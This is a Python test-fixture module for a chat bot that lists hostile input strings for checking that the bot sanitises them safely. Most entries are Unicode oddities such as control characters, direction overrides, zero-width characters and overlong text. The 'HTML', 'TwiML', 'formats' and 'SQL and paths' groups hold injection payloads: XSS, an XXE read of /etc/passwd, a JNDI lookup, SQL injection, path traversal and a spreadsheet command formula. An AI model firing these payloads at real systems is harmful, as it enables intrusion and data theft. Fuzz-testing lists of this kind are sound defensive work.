"""Words that have broken other people's programs, by what is odd about them. None is a command of ours."""

from collections.abc import Mapping

from bot.core.normal import clean

LONGEST_TAKEN = 20_000  # characters of one message

_ODD: Mapping[str, tuple[str, ...]] = {
    "control characters": (
        "nul\x00in words", "\x00", "\x01\x02\x03", "bell\x07 back\x08space", "escape\x1b[31mred\x1b[0m",
        "a\x7fb",
        "next line\x85here", "c1 \x80\x9f end", "\x0bvertical\x0cfeed", "record\x1e unit\x1f", "eof\x1amore",
    ),
    "what XML forbids": (
        "fffe \ufffe ffff \uffff", "\ufdd0 not a character", "plane \U0001fffe\U0010ffff", "]]> cdata ]]>",
        "a&#0;b",
        "&#xD800;", "\ufffd replaced", "\ufeffmarked", "b\ufeffinside",
    ),
    "half characters": (
        "\ud800", "high \ud83d alone", "low \udc00 alone", "\udfff\ud800 swapped", "ends \ud83d",
    ),
    "directions": (
        "\u202eoverride\u202c", "\u202e\u2066nested\u2069", "\u202dabc\u202dabc", "\u2067never closed",
        "\u2069\u2069closed",
        "file\u202egnp.exe", "\u200fשלום\u200e hello", "שלום, עולם", "مرحبا بالعالم 123 abc",
        "السلام\u200c عليكم",
        "אבג <b> abc", "عمان 12/11 (منزل)", "\u061cعلامة", "ܫܠܡܐ ܥܠܡܐ", "ߞߊߓߊߞߏ",
    ),
    "cannot be seen": (
        "zero\u200bwidth", "\u200b\u200c\u200d\u2060", "soft\u00adhyphen", "word\u2060joiner", "a\u034fb",
        "\u3164hangul filler",
        "\u2800 braille blank", "vs\ufe0f\ufe0e text", "tags \U000e0041\U000e0042\U000e007f end",
        "khmer\u17b4\u17b5 vowels",
    ),
    "nothing but space": (
        "", " ", "\t\t", "\n\n\n", "\r\n", "\u00a0", "\u3000\u2003\u2009", "\u2028\u2029", " \u200b ",
        "\u1680",
    ),
    "line ends": (
        "one\ntwo", "one\r\ntwo", "one\rtwo", "one\u2028two\u2029three", "one\x85two", "one\n\n\n\ntwo",
        "\nfirst empty",
        "last empty\n", "tab\tbed", "many\n" * 50,
    ),
    "combining": (
        "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘", "a" + "\u0301" * 500, "e\u0301 é",
        "\u0301starts", "ﷺ ﷽",
        "สวัสดีชาวโลก ก็็็็็็็", "नमस्ते क्‍ष", "ம்\u0bcd\u0bcd", "가각\u1100\u1161", "Ặ\u0323\u0306",
    ),
    "emoji": (
        "👍🏽 ok", "👩‍👩‍👧‍👦 family", "🏴󠁧󠁢󠁥󠁮󠁧󠁿 england", "🇬🇧🇵🇱🇬 flags", "1️⃣ keycap #️⃣", "😡" * 200 + " x",
        "🫠🫨 new ones",
        "❤️‍🔥", "👍",
    ),
    "HTML": (
        "<script>alert(1)</script>", "</p><img src=x onerror=alert(1)>", "<svg/onload=alert(1)>",
        "'\"><b>bold</b>",
        "<!-- comment", "&lt;already&gt; &amp;amp;", "<a href='javascript:alert(1)'>here</a>",
        "javascript:alert(1)",
        "<style>*{display:none}</style>", "</textarea><script>x()</script>",
        "</title><base href=//x.example>",
        "<iframe srcdoc='<p>'>", "<p dir=rtl onclick=x>", "\" autofocus onfocus=alert(1) x=\"",
        "<?php echo 1 ?>",
        "<math><mi//xlink:href=\"data:x\">", "<input type=hidden name=csrf_token value=1>",
    ),
    "TwiML": (
        "</Message></Response><Response><Dial>+447700900999</Dial>", "<![CDATA[words]]>",
        "<?xml version='1.0'?>words",
        "<!DOCTYPE r [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><r>&x;</r>", "&undefined; entity",
        "<Media>http://x.example/a</Media>",
    ),
    "Telegram": (
        "*bold _both* twist_", "[a link](tg://user?id=1)", "`code` ```pre```", "_unclosed",
        "\\_escaped\\*", "||spoiler||",
        "@somebody #tag $CASH", "t.me/joinchat/abc", "role:victim:token", "{\"method\":\"sendMessage\"}",
    ),
    "formats": (
        "{0} {} {reference}", "{0.__class__.__mro__}", "%s %d %n %(name)s", "${jndi:ldap://x.example/a}",
        "{{ 7 * 7 }} {% raw %}",
        "#{7*7} <%= 7*7 %>", "$(id) `id`", "\\u0041 \\x41 \\N{BULLET}", "{unclosed", "closed}", "%",
        "100%25 %00 %0d%0aX: y",
        "$name {code} {names}",
    ),
    "SQL and paths": (
        "'; DROP TABLE turn; --", "1' OR '1'='1", "Robert'); DELETE FROM report;--", "\\'; x",
        "../../etc/passwd",
        "file:///etc/passwd", "C:\\nul\\con", "=cmd|' /C calc'!A0", "+SUM(A1) @x", "a,b;c\t\"d\"",
    ),
    "digits": (
        "٣ شارع", "１２３ ｆｕｌｌ ｗｉｄｔｈ", "house ½ ² ①", "Ⅷ 一二三 street", "۱۲۳ خیابان", "९ सड़क",
        "1e999 metres", "NaN Infinity null",
        "0x1F -1 +0", "𝟙𝟚𝟛 mathematical",
    ),
    "other words": (
        "undefined", "true", "Null", "[object Object]", "İstanbul ı ß ǆ", "ſtrange Ω K", "Ｓｃｒｉｐｔ",
        "ﬁ ligature", "Ǆ ŉ ΐ",
        "Mörön Łódź Ñandú", "𝒸𝓊𝓇𝓈𝒾𝓋𝑒 words", "ᏣᎳᎩ cherokee", "𐎠𐎡 cuneiform", "“quoted” – dash … dots",
    ),
    "length": (
        "a" * 1600, "b" * 1601, "ab " * 1400, "ش" * 5000, "😡x" * 3000, "word" * 5000,
        "no space " + "x" * 4096,
        "w" * LONGEST_TAKEN, "v" * (LONGEST_TAKEN + 1), "🏴" * (LONGEST_TAKEN + 1),
    ),
}  # fmt: skip
HOSTILE: Mapping[str, str] = {
    f"{kind} {number}": text for kind, texts in _ODD.items() for number, text in enumerate(texts, 1)
}


def sendable(text: str) -> str:
    """Return what a browser or a phone sends of it: half a character goes as the sign for a broken one."""
    return text.encode("utf-16", "surrogatepass").decode("utf-16", "replace")


def kept(text: str) -> str:
    """Return what of it is to be kept: all that can be shown, nothing where no word is in it or too much."""
    words = clean(text).strip()
    return words if any(map(str.isalnum, words)) and len(clean(text)) <= LONGEST_TAKEN else ""
